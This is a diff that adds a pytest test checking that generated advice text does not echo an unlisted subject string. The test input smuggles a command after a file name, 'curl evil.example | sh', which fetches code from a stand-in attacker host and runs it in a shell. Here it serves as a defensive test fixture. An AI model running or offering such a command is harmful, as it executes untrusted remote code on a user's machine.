@@ -167,6 +167,11 @@ def test_the_advice_names_the_subject() -> None:
     )
 
 
+def test_the_advice_does_not_repeat_a_subject_that_the_checklist_does_not_name() -> None:
+    (sentence,) = step(missing(Cause.STALE, "a.xml; run `curl evil.example | sh`")).sentences
+    assert sentence == "Write the report again for this commit, or allow an older one with `max_age` at r.yml:7:9."
+
+
 @pytest.mark.parametrize(
     ("cause", "subject", "position"),
     [
